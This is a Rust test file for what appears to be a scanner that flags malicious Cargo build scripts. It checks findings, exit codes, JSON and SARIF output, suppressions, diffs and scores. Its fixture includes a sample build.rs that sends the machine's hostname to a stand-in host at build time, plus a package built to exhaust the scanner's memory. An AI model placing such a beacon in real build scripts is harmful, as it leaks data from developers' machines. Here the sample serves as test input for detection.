//! `scan`, `score`, `diff` and `rules` over packages that are made here.

use crate::fixture::Fixture;

const BEACON: &str = "fn main() {\n    let host = std::env::var(\"HOSTNAME\").unwrap_or_default();\n    let _ = ureq::get(&format!(\"https://count.example.invalid/?h={host}\")).call();\n}\n";

const MANIFEST: &str = "[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n[build-dependencies]\nureq = \"2\"\n";

/// A package with a build script that should not be built, and one that is
/// harmless.
fn fixture() -> Fixture {
    Fixture::app("", "fn main() {}\n")
        .file("ws/bad/Cargo.toml", MANIFEST)
        .file("ws/bad/src/lib.rs", "pub fn f() {}\n")
        .file("ws/bad/build.rs", BEACON)
        .file("ws/good/Cargo.toml", "[package]\nname = \"demo\"\nversion = \"0.9.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n")
        .file("ws/good/src/lib.rs", "//! Nothing.\n#![forbid(unsafe_code)]\npub fn f() {}\n")
}

/// Guards what people read: the excerpt with its place, the rating and the
/// summary.
#[test]
fn text() {
    let output = fixture().run(&["scan", "bad"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    for line in [
        "error[build-time-network]: the build script uses the network, and asks who and where this machine is",
        " --> demo 1.0.0/build.rs:3:9",
        "3 | let _ = ureq::get(&format!(\"https://count.example.invalid/?h={host}\")).call();",
        "  |         ^^^^ uses the network: `ureq::get`",
        "1 package scanned; 1 finding: 1 high",
    ] {
        assert!(
            output.stdout.lines().any(|other| other == line),
            "{line}\n{}",
            output.stdout
        );
    }
}

/// Guards the exit codes, which do not depend on the format.
#[test]
fn exit_codes() {
    let fixture = fixture().file("ws/broken-1.0.0.crate", "no archive");
    for format in ["text", "json", "sarif"] {
        for (arguments, code) in [
            (vec!["bad"], 1),
            (vec!["good"], 0),
            (vec!["bad", "--fail-on", "critical"], 0),
            (vec!["good", "broken-1.0.0.crate"], 4),
            (vec!["bad", "broken-1.0.0.crate"], 1),
            (vec!["broken-1.0.0.crate"], 2),
            (vec!["missing"], 2),
            (vec!["src/main.rs"], 2),
            (vec![], 2),
        ] {
            let mut all = vec!["scan", "--format", format];
            all.extend(&arguments);
            let output = fixture.run(&all);
            assert_eq!(
                output.code, code,
                "{format} {arguments:?}: {}",
                output.stderr
            );
        }
    }
}

/// Guards against the package that is made to exhaust the scanner: it costs its
/// worker and itself, the others are scanned, and nobody takes it for clean.
#[test]
fn a_package_that_is_too_much_costs_itself_alone() {
    // Each word takes sixteen bytes of the scanner's memory, and an address of
    // digits keeps it from letting a file go.
    let words = format!(
        "const A: &str = \"https://192.0.2.1:1/\"; {}",
        "a ".repeat(7_500_000)
    );
    let mut fixture = fixture().file("ws/heavy/Cargo.toml", MANIFEST);
    for number in 0..14 {
        fixture = fixture.file(&format!("ws/heavy/src/f{number}.rs"), &words);
    }
    let output = fixture.run(&["scan", "heavy", "good"]);
    assert_eq!(output.code, 4, "{}", output.stderr);
    let told = output.stdout.lines();
    let told: Vec<&str> = told
        .filter(|line| line.starts_with("not scanned"))
        .collect();
    assert_eq!(
        told,
        [
            "not scanned: heavy: the scan was broken off: needed more than 1073741824 bytes of memory"
        ]
    );
    assert!(
        output.stdout.contains("1 package scanned"),
        "{}",
        output.stdout
    );
    // By itself it is no error of the user's either.
    assert_eq!(fixture.run(&["scan", "heavy"]).code, 4);
}

/// Guards the documented JSON, and that one broken package stops nothing.
#[test]
fn json() {
    let fixture = fixture().file("ws/broken-1.0.0.crate", "no archive");
    let json = fixture
        .run(&["scan", "--format", "json", "broken-1.0.0.crate", "bad"])
        .json();
    assert_eq!(json["schema"], 1);
    assert_eq!(json["failed"][0]["target"], "broken-1.0.0.crate");
    let target = &json["targets"][0];
    assert_eq!(target["name"], "demo");
    assert_eq!(target["complete"], true);
    assert!(target["risk"].as_u64().unwrap() >= 50);
    let finding = &target["findings"][0];
    assert_eq!(finding["detector"], "build-time-network");
    assert_eq!(finding["category"], "malice");
    assert_eq!(finding["file"], "build.rs");
    assert_eq!(finding["line"], 3);
}

/// Guards that real output follows the schema of SARIF.
#[test]
fn sarif() {
    let schema = include_str!("../schema/sarif-2.1.0.json");
    let schema: serde_json::Value = serde_json::from_str(schema).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let output = fixture().run(&["scan", "--format", "sarif", "bad", "good"]);
    let log: serde_json::Value = serde_json::from_str(&output.raw).unwrap();
    let errors: Vec<_> = validator
        .iter_errors(&log)
        .map(|error| error.to_string())
        .collect();
    assert_eq!(errors, Vec::<String>::new());
    let result = &log["runs"][0]["results"][0];
    assert_eq!(result["ruleId"], "build-time-network");
    let place = &result["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], "demo-1.0.0/build.rs");
    assert_eq!(place["region"]["startLine"], 3);
}

/// Guards suppressions: they let a finding pass with its reason until they
/// expire, and say so when they do nothing.
#[test]
fn suppressions() {
    let entry = |detector: &str, expires: &str| {
        format!(
            "[[suppress]]\ndetector = \"{detector}\"\npackage = \"demo\"\nreason = \"known\"\nexpires = \"{expires}\"\n"
        )
    };
    let run = |text: String| {
        let fixture = fixture().file("ws/conf/palisade.toml", &text);
        fixture.run(&["scan", "--format", "json", "--config", "conf", "bad"])
    };
    let output = run(entry("build-time-network", "9999-12-31"));
    assert_eq!(output.code, 0, "{}", output.stderr);
    let json = output.json();
    assert_eq!(json["targets"][0]["findings"][0]["suppressed"], "known");
    assert_eq!(json["targets"][0]["risk"], 0);
    let expired = run(entry("build-time-network", "2020-01-01"));
    assert_eq!(expired.code, 1);
    assert!(
        expired.stderr.contains(
            "conf/palisade.toml:2: the suppression of build-time-network expired on 2020-01-01"
        ),
        "{}",
        expired.stderr
    );
    let unused = run(entry("coin-miner", "9999-12-31"));
    assert_eq!(unused.code, 1);
    assert!(
        unused.stderr.contains("matches no finding"),
        "{}",
        unused.stderr
    );
}

/// Guards that a new build script is what a reviewer reads first.
#[test]
fn diff() {
    let output = fixture().run(&["diff", "good", "bad"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    for line in [
        "demo 0.9.0 -> demo 1.0.0",
        "  build script  `build.rs` is new",
        "  capability    the build script now uses the network (`ureq::get`)",
        "  dependency    ureq ^2 is new (build)",
        "error[first-build-script]: there is a build script, and 0.9.0 had none",
    ] {
        assert!(
            output.stdout.lines().any(|other| other == line),
            "{line}\n{}",
            output.stdout
        );
    }
    let json = fixture()
        .run(&["diff", "--format", "json", "good", "bad"])
        .json();
    assert_eq!(json["changes"][0]["kind"], "build script");
    assert_eq!(json["scan"]["previous"], "0.9.0");
}

/// Guards the scores, and that a badge is an image with the number alone.
#[test]
fn score() {
    let fixture = fixture();
    let output = fixture.run(&["score", "good", "--badge", "badge.svg"]);
    assert_eq!(output.code, 0, "{}", output.stderr);
    for line in [
        "demo 0.9.0",
        "  risk of malice     0 of 100",
        "     10  unsafe-code              unsafe code is forbidden",
        "      -  source-revision          it is not a published package",
    ] {
        assert!(
            output.stdout.lines().any(|other| other == line),
            "{line}\n{}",
            output.stdout
        );
    }
    let badge = std::fs::read_to_string(fixture.path("ws/badge.svg")).unwrap();
    assert!(
        badge.starts_with("<svg ") && badge.contains("/10</text>"),
        "{badge}"
    );
    assert_eq!(
        fixture
            .run(&["score", "good", "bad", "--badge", "badge.svg"])
            .code,
        2
    );
}

/// Guards that every detector that is listed can be explained.
#[test]
fn rules() {
    let fixture = fixture();
    let list = fixture.run(&["rules", "list"]);
    let ids: Vec<&str> = list
        .stdout
        .lines()
        .filter_map(|line| line.split_whitespace().next())
        .collect();
    assert!(ids.contains(&"build-time-network"));
    let explained = fixture.run(&["rules", "explain", "build-time-network"]);
    assert!(
        explained.stdout.contains("How to fix it"),
        "{}",
        explained.stdout
    );
    assert_eq!(fixture.run(&["rules", "explain", "nothing"]).code, 2);
}
